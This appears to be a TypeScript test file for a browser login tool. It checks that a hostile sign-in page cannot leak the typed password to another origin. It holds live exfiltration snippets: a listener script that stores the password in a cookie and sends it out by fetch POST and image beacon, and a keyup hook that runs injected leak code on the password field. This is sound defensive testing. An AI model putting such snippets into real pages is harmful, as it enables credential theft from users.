import assert from 'node:assert/strict';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { after, before, test } from 'node:test';
import { html, openTestBrowser, serveSite, type TestSite } from '../../../../test/harness/browser.ts';
import { LEAKS, TRAPS } from '../../../../test/harness/leaks.ts';
import { systemClock } from '../../../platform/clock.ts';
import { logIn } from '../login/log-in.ts';

const PASSWORD = 'Zq7!velvet&Moth';
const HOME = '<nav><a href="/">Home</a> <a href="/logout">Log out</a></nav><h1>Overview</h1><p>14 patients today</p>';
/** What reached the other origin, by the number of the leak or trap. */
const reached = new Map<number, string[]>();
let site: TestSite;
let other: TestSite;
let page = '';
let redirects: { status: number; to: string } | null = null;
/** Passwords that reached the site itself. */
let signedIn: string[] = [];

const to = (index: number): string => `${other.otherOrigin}/leak/${index}`;
const near = (index: number): string => `${other.origin}/leak/${index}`;

function note(index: number, what: string): void {
  reached.set(index, [...(reached.get(index) ?? []), what]);
}

before(async () => {
  other = await serveSite((incoming, outgoing) => {
    const { pathname } = new URL(incoming.url ?? '/', other.origin);
    // A frame of the other origin that hands on what it is told by message.
    if (pathname === '/listener')
      return html(
        outgoing,
        `<script>onmessage=({data:[p,to]})=>{document.cookie='p='+p+';path=/';fetch(to,{method:'POST',body:p});new Image().src=to+'?cookie'}</script>`,
      );
    const { cookie = '', 'access-control-request-headers': asks } = incoming.headers;
    // What a browser asks before a header is sent says its name alone; a cookie may not have been kept.
    const saysNothing = asks === 'x-p' || (incoming.url?.endsWith('?cookie') === true && !cookie.includes('p='));
    if (!saysNothing) note(Number(pathname.split('/')[2]), `${incoming.method} ${incoming.url}`);
    if (!incoming.headers.authorization && /authenticated$/.test(pathname))
      return void outgoing.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end();
    html(outgoing, 'taken');
  });
  other.server.on('upgrade', (incoming, socket) => {
    note(Number(incoming.url?.split(/[/?]/)[2]), `socket ${incoming.url}`);
    socket.destroy();
  });
  // Anything but HTTP, as relays for calls speak it.
  other.server.on('clientError', (_, socket) => {
    note(
      LEAKS.findIndex(({ name }) => name === 'name of a relay for calls'),
      'bytes',
    );
    socket.destroy();
  });
  site = await serveSite(answer);
});
after(() => Promise.all([site.close(), other.close()]));

function answer(incoming: IncomingMessage, outgoing: ServerResponse, body: string): void {
  const url = new URL(incoming.url ?? '/', site.origin);
  if (url.pathname === '/hop') {
    const [, status = '', where = ''] = /^\?(\d+)&(.*)$/.exec(url.search) ?? [];
    outgoing.writeHead(Number(status), { location: where }).end();
    return;
  }
  if (url.pathname === '/home') html(outgoing, HOME);
  else if (incoming.method === 'POST') {
    signedIn.push(new URLSearchParams(body).get('password') ?? '');
    const { status, to: where } = redirects ?? { status: 303, to: '/home' };
    outgoing.writeHead(status, { location: where }).end();
  } else html(outgoing, `<!doctype html><title>Sign in</title><body><h1>Sign in</h1>${page}`);
}

async function signIn(password: string) {
  const loginUrl = `${site.origin}/login`;
  signedIn = [];
  const { session, close } = await openTestBrowser({ loginUrl, secrets: [password] });
  try {
    const login = { loginUrl, username: 'ann', password, totpSecret: null };
    const { verdict } = await logIn(session, login, {
      hasSession: false,
      deadlineAt: Date.now() + 40_000,
      ask: () => Promise.reject(new Error('nobody answers')),
      signal: new AbortController().signal,
      clock: systemClock,
    });
    return { verdict, held: session.guard.heldBack() };
  } finally {
    await close();
  }
}

/** The page of a form that signs in, while everything is tried that `leaks` say. */
function leaking(leaks: readonly { code: string }[]): string {
  const tries = leaks.map(
    ({ code }, index) =>
      `(()=>{const to=${JSON.stringify(to(index))},near=${JSON.stringify(near(index))};let a,c,d,f,h,i,s,w,x;try{${code}}catch(e){}})();`,
  );
  return `<form method=post action=/login><label>User <input name=user></label><label>Password <input type=password name=password id=pw></label><button>Sign in</button></form>
    <iframe name=sink></iframe><iframe name=sink2 src="${other.otherOrigin}/listener"></iframe>
    <script>let isDone=false;const hex=t=>[...t].map(c=>c.charCodeAt(0).toString(16).padStart(2,'0')).join('');
    pw.addEventListener('keyup',()=>{if(isDone)return;isDone=true;const P=pw.value;${tries.join('\n')}})</script>`;
}

test('a page that hands the password on in every way signs in, and hands nothing on', async (t) => {
  for (const password of [PASSWORD, 'sunshine']) {
    reached.clear();
    page = leaking(LEAKS);
    redirects = null;
    const { verdict, held } = await signIn(password);
    t.diagnostic(`${reached.size} of ${LEAKS.length} leaks of ${password} reached the other origin`);
    assert.deepEqual(
      [...reached].map(([index, what]) => [LEAKS[index]?.name ?? index, ...what]),
      [],
    );
    assert.equal(verdict.kind, 'logged_in', verdict.message);
    assert.deepEqual(signedIn, [password]);
    assert.ok(held.length >= 30, 'what was held back is kept');
  }
});

test('a form that takes the password elsewhere takes it nowhere, and where it says so itself nothing is typed', async (t) => {
  reached.clear();
  for (const [index, trap] of TRAPS.entries()) {
    page = trap.form.replaceAll('HERE', '/login').replaceAll('TO', to(index));
    redirects = trap.redirects === undefined ? null : { status: trap.redirects, to: to(index) };
    const { verdict, held } = await signIn(PASSWORD);
    assert.equal(verdict.kind, 'unreachable', `${trap.name}: ${verdict.message}`);
    assert.ok(verdict.message.includes(new URL(other.otherOrigin).host), `${trap.name}: ${verdict.message}`);
    if (trap.isPlain) assert.match(verdict.message, /was not typed/, trap.name);
    assert.equal(held.length > 0, !trap.isPlain, `${trap.name}: held back`);
  }
  t.diagnostic(`${reached.size} of ${TRAPS.length} traps reached the other origin`);
  assert.deepEqual(
    [...reached].map(([index, what]) => [TRAPS[index]?.name ?? index, ...what]),
    [],
  );
});
